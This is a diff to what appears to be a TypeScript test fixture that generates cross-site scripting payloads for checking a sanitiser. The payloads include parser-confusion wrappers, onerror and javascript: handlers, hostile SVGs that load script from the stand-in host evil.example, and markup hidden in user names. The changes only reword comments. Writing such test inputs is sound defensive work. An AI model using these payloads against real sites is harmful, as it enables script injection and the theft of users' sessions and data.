@@ -1,6 +1,6 @@
-/** The site that hostile content would call; it is reached by nothing. */
+/** The site that hostile content would call; nothing must reach it. */
 export const EVIL = 'https://evil.example'
-/** What hostile content would run, with its own number. */
+/** The function that hostile content would run, with its own number. */
 export const RUN = 'gafferHit'
 
 /** What would run or load, given the number of its case. */
@@ -26,7 +26,7 @@ const CORES: readonly ((n: number) => string)[] = [
     `<form action="${EVIL}/form-${n}"><button formaction="javascript:${RUN}(${n})" data-press>b</button></form>`,
 ]
 
-/** Places where one parser sees text and the next sees markup. */
+/** Places where one parser sees text and the next one sees markup. */
 const WRAPPERS: readonly ((core: string) => string)[] = [
   (core) => core,
   (core) =>
@@ -45,7 +45,7 @@ const WRAPPERS: readonly ((core: string) => string)[] = [
   (core) => `<a href="https://x.example/?<!--">${core}<!-- --><b title="-->">`,
 ]
 
-/** What needs no wrapper: malformed attributes, addresses in disguise, unusual letters, clobbering. */
+/** Cases without a wrapper: malformed attributes, disguised addresses, unusual letters, clobbering. */
 const SINGLES: readonly ((n: number) => string)[] = [
   (n) => `<IMG SRC=x: OnErRoR=${RUN}(${n})>`,
   (n) => `<img/src=x:/onerror=${RUN}(${n})>`,
@@ -105,20 +105,20 @@ function attributeSafe(core: string): string {
   return core.replaceAll('"', "'")
 }
 
-/** Every hostile text, each with a number that its scripts and requests name. */
+/** Every hostile text, each with a number that its scripts and requests contain. */
 export function hostileTexts(): readonly string[] {
   const wrapped = CORES.flatMap((core) => WRAPPERS.map((wrap) => (n: number) => wrap(core(n))))
   return [...wrapped, ...SINGLES].map((write, n) => write(n))
 }
 
-/** Ends whatever a text left open, so that the next one begins in the open too. */
+/** Closes whatever a text left open, so that the next one also starts outside. */
 export const CLOSING =
   '">\'>--></style></script></title></textarea></noscript></template></option></select></xmp></iframe></math></svg></table></form></a></b>'
 
 const svg = (inside: string, rest = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${rest}>${inside}</svg>`
 
-/** Pictures that are more than pictures; none is one that an operator may have. */
+/** Pictures that are more than pictures; an operator must not be able to use any of them. */
 export const HOSTILE_SVGS: readonly string[] = [
   svg(`<script>${RUN}(1)</script>`),
   svg(`<script href="${EVIL}/a.js"/>`),
@@ -154,7 +154,7 @@ export const HOSTILE_SVGS: readonly string[] = [
   `GIF89a/*${svg('')}*/=${RUN}(1)`,
 ]
 
-/** Names as somebody would write who wants more than a name. */
+/** Names written by somebody who wants more than a name. */
 export const HOSTILE_NAMES: readonly string[] = [
   `<img src=x: onerror=${RUN}(1)>`,
   `<script>${RUN}(1)</script>`,
